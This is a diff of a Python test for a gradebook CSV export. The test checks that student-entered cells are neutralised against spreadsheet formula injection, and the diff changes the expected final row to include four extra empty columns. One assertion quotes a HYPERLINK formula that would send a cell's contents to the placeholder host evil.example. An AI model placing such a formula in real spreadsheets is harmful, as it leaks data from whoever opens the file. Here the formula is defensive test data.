@@ -587,7 +587,7 @@ def test_csv_cells_a_student_controls_are_neutralised(course, no_plots):
     parsed = list(csv.DictReader(io.StringIO(text)))
     assert [r["student"] for r in parsed] == ["'" + s for s in hostile] + ["ana"]
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""ver"")"' in text  # quoted, its quotes escaped
-    assert text.splitlines()[-1] == '"ana",2.5,2.5,0.0,2.5,"graded"'  # numbers stay numbers
+    assert text.splitlines()[-1] == '"ana",2.5,2.5,0.0,2.5,"graded","","","",""'  # numbers stay numbers
 
     # Through the class report: an id on the roster (an instructor's import from the LMS) and a report.
     with open_gradebook(course) as gradebook:
